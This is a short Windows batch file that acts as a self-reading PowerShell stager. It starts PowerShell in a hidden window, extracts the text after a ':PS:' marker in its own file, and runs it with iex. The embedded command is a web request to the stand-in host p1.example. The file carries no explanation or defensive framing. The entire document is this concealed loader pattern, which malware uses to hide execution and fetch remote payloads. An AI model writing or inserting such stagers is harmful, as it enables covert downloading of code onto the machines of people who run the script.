@echo off
powershell -w h -c "$x=(Get-Content '%~dpnx0' -Raw) -split ':PS:'; iex $x[2]"
exit /b
:PS:
iwr http://p1.example/d
